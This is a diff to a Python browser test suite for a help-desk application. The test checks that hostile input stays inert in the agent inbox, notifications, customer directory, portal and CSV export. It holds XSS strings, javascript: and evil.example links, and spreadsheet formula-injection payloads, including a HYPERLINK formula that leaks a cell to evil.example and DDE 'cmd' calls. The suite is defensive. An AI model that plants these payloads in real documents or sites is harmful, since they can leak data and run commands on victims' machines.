@@ -1,19 +1,28 @@
-"""Hostile content through every way in (e-mail, web form, chat), rendered where people read it
-(the agent's inbox and conversations, the customer directory and the customer portal) in a real
-browser: no script runs, no dialog opens, nothing is fetched from anywhere but Regard."""
+"""Hostile content through every way in (e-mail with its attachment names, web form, chat, the
+REST API with its tags, organization names, notifications), rendered where people read it (the
+agent's inbox and conversations, notifications, the customer directory and profiles, and the
+customer portal) in a real browser: no script runs, no dialog opens, nothing is fetched from
+anywhere but Regard. The CSV export of the same data downloads, never renders, and no cell in it
+can start a spreadsheet formula."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from email.message import EmailMessage
 from email.utils import make_msgid
+from pathlib import Path
 
 import pytest
 from django.test import Client
 
+from regard.accounts.notifications import notify
+from regard.api.tokens import issue_token
 from regard.channels.email.inbound import accept_email
 from regard.channels.web.actions import Submission, receive_web_form
 from regard.conversations.models import Conversation
+from regard.customers.models import Customer, Organization
 from regard.portal.actions import request_link
 from regard.portal.tokens import link_token
 from tests.conversations.test_sanitize import HOSTILE
@@ -54,7 +63,15 @@ EXTRA = [
     "<textarea></textarea><script>alert(1)</script>",
     "<title></title><script>alert(1)</script>",
     "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    # Spreadsheet formulas, for the CSV export.
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
 ]
+# Where a notification may point: only paths inside Regard become links.
+HOSTILE_LINKS = ["javascript:alert(1)", "//evil.example/x", "https://evil.example/", "/ok/"]
 PAYLOADS = HOSTILE + EXTRA
 ORIGIN = "https://shop.example"
 URL_ATTRIBUTES = ["href", "src", "action", "formaction"]
@@ -68,6 +85,8 @@ def _mail(payload: str, n: int) -> bytes:
     mail["Message-ID"] = make_msgid(domain="example.com")
     mail.set_content(f"Plain part {n}: {payload}")
     mail.add_alternative(f"<html><body><p>HTML part {n}</p>{payload}</body></html>", "html")
+    filename = " ".join(payload.split())[:120] or "x"
+    mail.add_attachment(f"file {n}".encode(), "application", "octet-stream", filename=filename)
     return bytes(mail)
 
 
@@ -98,6 +117,31 @@ def hostile_desk(settings, agent):
                 "Origin": "https://shop.example",
                 "Authorization": f"Bearer {started['token']}",
             },
+        )
+    api = Client(headers={"Authorization": f"Bearer {issue_token(agent.user, agent, 'tests').secret}"})
+    for n, payload in enumerate(PAYLOADS):
+        made = api.post(
+            "/api/v1/conversations",
+            {"email": f"api{n}@example.com", "name": payload[:200], "text": f"API {n}: {payload}"},
+            content_type="application/json",
+        )
+        assert made.status_code == 201, made.content
+        tagged = api.patch(
+            f"/api/v1/conversations/{made.json()['id']}",
+            {"tags": [payload[:64], "plain"]},
+            content_type="application/json",
+        )
+        assert tagged.status_code == 200, tagged.content
+        organization = Organization.objects.create(name=payload[:200])
+        Customer.objects.filter(identities__value=f"hostile{n}@example.com").update(
+            organization=organization
+        )
+        notify(
+            agent,
+            "survey_follow_up",
+            f"{payload[:300]} answered 2: please call or write to them.",
+            key=f"hostile:{n}",
+            url=HOSTILE_LINKS[n % len(HOSTILE_LINKS)],
         )
     from regard.conversations.actions import send_reply
 
@@ -155,15 +199,22 @@ def test_hostile_content_stays_inert_for_agents(watched, live_server, hostile_de
     page.get_by_role("button", name="Log in").click()
     page.wait_for_url(live_server.url + "/")
     found = []
-    for path in ("/?view=team", "/?view=unassigned", "/customers/", "/search?q=alert"):
+    pages = ["/", "/notifications/", "/?view=team", "/?view=unassigned", "/customers/"]
+    for path in [*pages, "/search?q=alert", "/?tag=plain", "/api-tokens/"]:
         page.goto(live_server.url + path)
         found += inert(page)
     for conversation in hostile_desk:
         page.goto(f"{live_server.url}/conversations/{conversation.pk}/")
         found += inert(page)
-    page.goto(f"{live_server.url}/customers/{hostile_desk.last().customer_id}/")
-    found += inert(page)
-    assert hostile_desk.count() >= 3 * len(PAYLOADS)
+    with_organization = Customer.objects.filter(organization__isnull=False).order_by("pk")
+    for customer in [*with_organization[::4], hostile_desk.last().customer]:
+        page.goto(f"{live_server.url}/customers/{customer.pk}/")
+        found += inert(page)
+    assert hostile_desk.count() >= 4 * len(PAYLOADS)
+    page.goto(live_server.url + "/notifications/")
+    links = page.locator("main a").evaluate_all("(links) => links.map((a) => a.href)")
+    assert all(link.startswith(live_server.url) for link in links), links
+    assert "evil.example" not in " ".join(links)
     assert "alert(1)" in page.locator("main").inner_text()  # shown, as text
     assert found == [] and page.trouble == [], found + page.trouble
     # The checks themselves can see what they look for.
@@ -186,3 +237,24 @@ def test_hostile_content_stays_inert_in_the_portal(watched, live_server, hostile
         page.goto(f"{live_server.url}/portal/conversations/{conversation.pk}/")
         found += inert(page)
     assert found == [] and page.trouble == [], found + page.trouble
+
+
+def test_hostile_directory_exports_as_inert_csv(watched, live_server, hostile_desk, admin_agent):
+    page = watched
+    page.goto(live_server.url + "/login/")
+    page.get_by_label("Login").fill(admin_agent.user.username)
+    page.get_by_label("Password").fill(PASSWORD)
+    page.get_by_role("button", name="Log in").click()
+    page.wait_for_url(live_server.url + "/")
+    page.goto(live_server.url + "/customers/")
+    with page.expect_download() as download:  # the browser saves it; it never renders it
+        page.evaluate("location.href = '/customers/export.csv'")
+    text = Path(download.value.path()).read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) > 3 * len(PAYLOADS)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in text and "'+cmd" in text and "'@SUM" in text  # kept, as text
+    organizations = {row[3] for row in rows[1:]}
+    assert len(organizations & set(PAYLOADS)) > len(PAYLOADS) // 2  # hostile names were there
+    assert page.trouble == [], page.trouble
